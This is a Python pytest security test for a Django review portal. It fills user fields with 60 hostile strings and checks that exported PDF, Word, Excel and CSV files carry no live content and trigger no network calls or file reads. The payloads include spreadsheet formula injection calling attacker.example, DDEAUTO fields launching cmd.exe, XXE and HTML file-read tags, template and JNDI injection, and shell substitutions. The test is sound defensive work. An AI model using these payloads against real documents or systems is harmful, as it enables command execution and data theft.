"""What people wrote, in the files that leave: nothing of it asks, reads or is worked out there."""

import csv
import io
import re
import sys
import zipfile
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree

import pikepdf
import pytest
from django.db import transaction
from django.urls import reverse

from quality_markers.assessments.models import Pass
from quality_markers.exports import operations as exports
from quality_markers.exports.models import Export
from reviews.permissions import MATRIX, Role
from scr_portal.core.csv_table import FORMULA
from tests import cast as casting
from tests.architecture.test_urls import patterns
from tests.matrix import world as worlds
from tests.matrix.conftest import quiet  # noqa: F401 - a fixture
from tests.matrix.test_urls import BOARD_TO, OPEN_TO, REVIEW_TO, arguments
from tests.proof.frame import Claim
from tests.proof.security import poisoned

CLAIM = Claim(
    id="S11",
    says="A file that leaves asks for nothing, reads nothing and works out nothing, whatever "
    "people wrote",
    how="60 hostile strings stand in the fields that people fill in, each field meeting another in "
    "each of four turns; every download of every room and every form of an export is made while "
    "each connection and each file opened is watched, and is then taken apart",
    goal="0 connections, 0 files read, 0 live formulas or fields",
)
pytestmark = pytest.mark.timeout(1800)

ELSEWHERE = "attacker.example"
CANARY = "the-lamp-is-lit-4711"
FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1+1",
        "＠SUM(1)",
    ),
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"click")',
    f'=WEBSERVICE("http://{ELSEWHERE}/")',
    f'=IMPORTXML("http://{ELSEWHERE}/","//a")',
    f'=IMAGE("http://{ELSEWHERE}/x.png")',
    '=DDE("soffice";"/tmp/x";"A1")',
    "{=1+1}",
    "\x00=1+1",
    "\ufeff=1+1",
    "_x003D_1+1",
]
PAGES = [
    f'<img src="http://{ELSEWHERE}/x.png">',
    '<img src="file:///{canary}">',
    f'<link rel=stylesheet href="http://{ELSEWHERE}/x.css">',
    '<link rel=attachment href="file:///{canary}">',
    f'<style>@import url("http://{ELSEWHERE}/x.css");</style>',
    "<style>body{{background:url(file:///{canary})}}</style>",
    '<iframe src="file:///{canary}"></iframe>',
    '<object data="file:///{canary}"></object>',
    '<embed src="file:///{canary}">',
    '<svg><image href="file:///{canary}"/></svg>',
    '<a rel=attachment href="file:///{canary}">x</a>',
    f'<base href="http://{ELSEWHERE}/">',
    f'<meta http-equiv=refresh content="0;url=http://{ELSEWHERE}/">',
    f'<script src="http://{ELSEWHERE}/x.js"></script>',
    f'<video poster="http://{ELSEWHERE}/x.png"></video>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///{canary}">]><a>&b;</a>',
    '<?xml-stylesheet href="file:///{canary}"?>',
    '" style="background:url(file:///{canary})',
    "</p></body></html><img src=file:///{canary}>",
    "\\\\attacker.example\\share\\x.png",
]
FIELDS = [
    '{{ INCLUDETEXT "{canary}" }}',
    '{{ INCLUDEPICTURE "http://attacker.example/x.png" }}',
    '{{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }}',
    '<w:fldSimple w:instr="DDEAUTO calc"/>',
    "]]></w:t></w:r><w:r><w:instrText>DDEAUTO calc</w:instrText></w:r>",
    '<w:altChunk r:id="x"/>',
    '</t></is></c><c t="str"><f>1+1</f></c>',
    '<hyperlink ref="A1" r:id="rId1"/>',
    '&lt;img src="file:///{canary}"&gt;',
    "&#61;1+1",
]
WORDS = [
    "{{{{ settings.SECRET_KEY }}}}",
    '{{% include "/{canary}" %}}',
    "{{% load static %}}{{% debug %}}",
    "${{jndi:ldap://attacker.example/x}}",
    "#{{7*7}}",
    "%(canary)s %s %n",
    "{{0.__class__}}",
    "$(cat {canary})",
    "`cat {canary}`",
    "../../../{canary}",
]
# Of our own Word files: page numbers and contents.
OWN_FIELDS = re.compile(r"\s*(PAGE|NUMPAGES|TOC|REF|PAGEREF|SECTIONPAGES|NUMWORDS|HYPERLINK \\l)\b")


class Watch:
    """Each connection and each file that this process opens while it looks (PEP 578)."""

    looking: "Watch | None" = None
    is_hooked = False

    def __init__(self, canary: str) -> None:
        self.canary, self.connections, self.reads = canary, [], []

    def __enter__(self) -> "Watch":
        if not Watch.is_hooked:
            sys.addaudithook(_told)
            Watch.is_hooked = True
        Watch.looking = self
        return self

    def __exit__(self, *raised: object) -> None:
        Watch.looking = None


def _told(event: str, args: tuple[Any, ...]) -> None:
    watch = Watch.looking
    if watch is None:
        return
    if event == "socket.getaddrinfo" and args[0] not in {"localhost", "127.0.0.1", None}:
        watch.connections.append(str(args[0]))
    elif event == "socket.connect" and isinstance(args[1], tuple) and args[1][0] != "127.0.0.1":
        watch.connections.append(str(args[1]))
    elif event in {"open", "subprocess.Popen"} and watch.canary in str(args[0]):
        watch.reads.append(str(args[0]))


@pytest.fixture
def canary(tmp_path) -> str:
    path = tmp_path / "canary.txt"
    path.write_text(CANARY)
    return str(path)


def strings_of(canary: str) -> list[str]:
    path = canary.removeprefix("/")
    found = [*FORMULAS]
    for each in [*PAGES, *FIELDS, *WORDS]:
        found.append(each.replace("{canary}", path).replace("{{", "{").replace("}}", "}"))
    return [each.replace("\x00", "") for each in found]


def who_may(name: str) -> list[str]:
    """Roles that may open it, the one that sees most first."""
    rule = REVIEW_TO.get(name) or ({BOARD_TO[name]} if name in BOARD_TO else None)
    order = [Role.LEAD, Role.UNIT, Role.LIAISON, Role.CHAIR, Role.MEMBER]
    return [role.value for role in order if rule is None or MATRIX[role] & set(rule)]


def downloads(world: worlds.World) -> Iterator[tuple[str, str]]:
    """Every address that may give a file, in each form of it."""
    for name, pattern in patterns():
        if name not in REVIEW_TO and name not in BOARD_TO and name not in OPEN_TO:
            continue
        wanted = arguments(pattern, name)
        try:
            kwargs = world.kwargs(name, wanted)
        except KeyError:
            continue
        is_file = {"kind", "ending", "form"} & set(wanted) or re.search(
            r"file|copy|pdf|paper|download|original|sheets|record$", name
        )
        if not is_file:
            continue
        form = next((place for place in ("kind", "ending") if kwargs.get(place) in FORMS), None)
        forms = [kwargs | {form: each} for each in FORMS] if form else [kwargs]
        for each in forms:
            yield name, reverse(name, kwargs=each)


FORMS = ("pdf", "docx", "xlsx", "csv", "yaml")


def files_of(world: worlds.World, sign_in: Any) -> Iterator[tuple[str, bytes]]:
    """Each as whoever may take it; a POST where the words are real names."""
    clients = {
        who: sign_in(world.people[who]) for who in ("lead", "unit", "liaison", "chair", "member")
    }
    for name, address in downloads(world):
        for who in who_may(name):
            for method in ("get", "post"):
                with transaction.atomic():
                    answer = getattr(clients[who], method)(address)
                    content = (
                        b"".join(answer.streaming_content) if answer.streaming else answer.content
                    )
                    transaction.set_rollback(True)
                if "attachment" in answer.get("Content-Disposition", ""):
                    yield f"{name} {answer['Content-Type']}", content
                    break
            else:
                continue
            break


def exports_of(world: worlds.World) -> Iterator[tuple[str, bytes]]:
    assessment = Pass.objects.filter(review=world.review).order_by("number").first()
    for form in Export.Form.values:
        for of in (Export.Of.PASS, Export.Of.HISTORY):
            export = exports.ask(
                assessment=assessment,
                by=world.people["lead"],
                token=f"{form}-{of}",
                form=form,
                of=of,
                with_comments=True,
                recipient="=1+1<img src=x>",
            )
            exports.make(pk=export.pk)
            export.refresh_from_db()
            assert export.content, export.last_error
            yield f"export of {of} as {form}", bytes(export.content)


def live(content: bytes, name: str) -> list[str]:
    """What in the file would be asked for, read or worked out when it is opened."""
    if CANARY.encode() in content:
        return [f"{name}: holds what stands in the canary"]
    if content.startswith(b"%PDF"):
        found = list(live_in_pdf(content))
    elif content.startswith(b"PK"):
        found = list(live_in_office(content))
    else:
        found = list(live_in_table(content)) if "csv" in name else []
    return [f"{name}: {each}" for each in found]


def live_in_pdf(content: bytes) -> Iterator[str]:
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for each in pdf.objects:
            if isinstance(each, pikepdf.Stream) and CANARY.encode() in _bytes_of(each):
                yield "holds what stands in the canary"
            if not isinstance(each, pikepdf.Dictionary | pikepdf.Stream):
                continue
            action = each.get("/A")
            # The structure of a tagged file has attributes of this name too, and they do nothing.
            acts = isinstance(action, pikepdf.Dictionary) and "/S" in action
            if acts and action["/S"] != "/GoTo":
                yield f"a link that leads to {action.get('/URI', action['/S'])}"
            if each.get("/S") in ("/JavaScript", "/Launch") or "/EF" in each or "/AA" in each:
                yield "something that acts"
        if "/EmbeddedFiles" in pdf.Root.get("/Names", pikepdf.Dictionary()):
            yield "a file inside"


def _bytes_of(stream: Any) -> bytes:
    try:
        return bytes(stream.read_bytes())
    except pikepdf.PdfError:
        return b""


def live_in_office(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for path in parts.namelist():
            part = parts.read(path)
            if CANARY.encode() in part:
                yield f"{path} holds what stands in the canary"
            if path.endswith((".docx", ".xlsx", ".pdf")):
                yield from live(part, path)
            if path.endswith(".csv"):
                yield from live_in_table(part)
            if path.endswith((".xml", ".rels")):
                yield from live_in_xml(path, ElementTree.fromstring(part))


def live_in_xml(path: str, root: Any) -> Iterator[str]:
    for each in root.iter():
        name = each.tag.rpartition("}")[2]
        if each.get("TargetMode") == "External":
            yield f"{path} leads to {each.get('Target')}"
        if name == "f" and path.startswith("xl/worksheets"):
            yield f"a formula: {each.text}"
        if name in {"fldSimple", "instrText"}:
            said = each.text or next((v for k, v in each.items() if k.endswith("}instr")), "")
            if said.strip() and not OWN_FIELDS.match(said):
                yield f"a field: {said}"
        if name in {"altChunk", "ddeLink", "oleObject", "externalReference"}:
            yield f"{path} holds {name}"


def live_in_table(content: bytes) -> Iterator[str]:
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA):
                yield f"a cell that begins {cell[:20]!r}"


def test_no_words_come_alive_in_a_file(claim, scale, sign_in, db, canary, quiet):  # noqa: F811
    strings = strings_of(canary)
    assert len(strings) == 60
    world = worlds.make(casting.gather())
    alive, made, fields = [], 0, 0
    turns = scale(quick=1, whole=4)
    with Watch(canary) as watch:
        for turn in range(turns):
            fields, kept = poisoned.poison(strings, turn * len(strings) // turns)
            assert len(kept) < fields / 10, kept
            with transaction.atomic():
                found = [*files_of(world, sign_in), *exports_of(world)]
                transaction.set_rollback(True)
            made += len(found)
            alive += [each for name, content in found for each in live(content, name)]
    forms = {content[:4] for _name, content in found}
    assert len(forms) >= 3
    wrong = [*watch.connections, *watch.reads, *alive]
    claim.measured(
        figure=f"{len(strings)} strings in {fields} fields, {made} files: "
        f"{len(watch.connections)} connections, {len(watch.reads)} files read, "
        f"{len(alive)} formulas, fields or links alive" + "".join(f"; {w}" for w in wrong[:5]),
        holds=not wrong,
    )
